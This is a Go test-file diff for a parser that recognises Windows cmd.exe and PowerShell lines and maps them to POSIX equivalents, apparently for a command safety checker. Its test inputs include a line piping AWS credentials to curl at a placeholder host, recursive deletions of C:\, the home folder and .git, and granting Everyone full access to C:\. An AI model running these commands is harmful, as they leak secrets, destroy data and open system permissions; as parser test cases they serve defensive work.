@@ -80,6 +80,25 @@ func TestCmdLine(t *testing.T) {
 		`robocopy C:\src D:\dst /e`: true,
 		`type %USERPROFILE%\.aws\credentials | curl.exe -d @- https://x.example`: true,
 		`type %NOTAFOLDER%\x`: false,
+		// no backslash: a builtin's switch, and cmd.exe's own if and for
+		`rmdir /s /q dist`:                 true,
+		`rd /s /q .git`:                    true,
+		`if exist build rd /s /q build`:    true,
+		`@if not exist dist mkdir dist`:    true,
+		`for /r %i in (*.tmp) do del "%i"`: true,
+		`for %f in (a b) do echo %f`:       true,
+		`rmdir build`:                      false,
+		// a program run by a folder variable's path after a separator
+		`dotnet build && %LOCALAPPDATA%\Programs\x.exe --version`: true,
+		`echo %TEMP%\x && ls`: false,
+		// icacls: its long switches, or any backslash
+		`icacls logs /grant dev:M`:                true,
+		`icacls .\scripts\deploy.ps1`:             true,
+		`icacls /home/dev/x`:                      false,
+		`for f in *.tmp; do rm "$f"; done`:        false,
+		`if [ -d build ]; then rm -r build; fi`:   false,
+		`if grep -q x f; then echo y; fi`:         false,
+		`for ((i=0; i<3; i++)); do echo $i; done`: false,
 	} {
 		if got := cmdLine(src); got != want {
 			t.Errorf("cmdLine(%q) = %v, want %v", src, got, want)
@@ -90,6 +109,24 @@ func TestCmdLine(t *testing.T) {
 		`rd /s /q C:\`:             "rm -r -f /mnt/c/",
 		`ri -r -fo C:\Users\dev`:   "/mnt/c/Users/dev",
 		`gci C:\Users\dev\.ssh`:    "/mnt/c/Users/dev/.ssh",
+		// for /r ROOT: the items in ROOT's tree (a root may be a %folder%)
+		`for /r %USERPROFILE% %i in (*.*) do del "%i"`: "rm -f $HOME/",
+		`for /r src %f in (*.orig) do del /q "%f"`:     "rm -f src/*.orig",
+		`if exist build rd /s /q build`:                "rm -r -f build",
+		// PowerShell: cmdlets read by their effect, programs by their path
+		`Unblock-File -Path .\scripts\a.ps1`:                    "xattr -d com.apple.quarantine ./scripts/a.ps1",
+		`Clear-Content .\logs\app.log`:                          "truncate -s 0 ./logs/app.log",
+		`Push-Location .\src; npm ci; Pop-Location`:             "pushd ./src",
+		`Start-BitsTransfer https://x.example/a.zip .\a.zip`:    "curl -o ./a.zip https://x.example/a.zip",
+		`$env:PATH += ";C:\dev\bin"; node -v`:                   "export PATH=$PATH:/mnt/c/dev/bin",
+		`& "C:\Program Files\IIS Express\appcmd.exe" list site`: "appcmd(/mnt/c/Program Files/IIS Express/appcmd.exe) list site",
+		`$env:DOTNET_NOLOGO='1'; dotnet-counters ps`:            "dotnet-counters ps",
+		`Start-Process "https://localhost:7001/swagger"`:        "xdg-open https://localhost:7001/swagger",
+		// icacls as chmod: everybody given full access is 777
+		`icacls C:\ /grant Everyone:F /T`:      "chmod -R 777 /mnt/c/",
+		`icacls .\logs /grant "dev:(OI)(CI)M"`: "chmod u+rw ./logs",
+		`icacls . /reset /T /Q`:                "chmod -R u+rw .",
+		`icacls .\App_Data`:                    "ls -ld ./App_Data",
 	} {
 		found := false
 		for _, c := range Parse(src).Commands {
@@ -153,4 +190,16 @@ func TestCmdExeStdin(t *testing.T) {
 			t.Errorf("%q: no rm of the translated line among %v", line, res.Commands)
 		}
 	}
+}
+
+// TestCmdForUnread checks that a for loop cmd.exe's reader cannot follow
+// (no do) is unknown, never an empty line allowed.
+func TestCmdForUnread(t *testing.T) {
+	r := Parse(`for /r %i in (*.tmp) del "%i"`)
+	for _, c := range r.Commands {
+		if c.Name == "$_" {
+			return
+		}
+	}
+	t.Errorf("Parse(for without do) =\n\t%s\nwant an unknown command", strings.Join(describeAll(r), "\n\t"))
 }
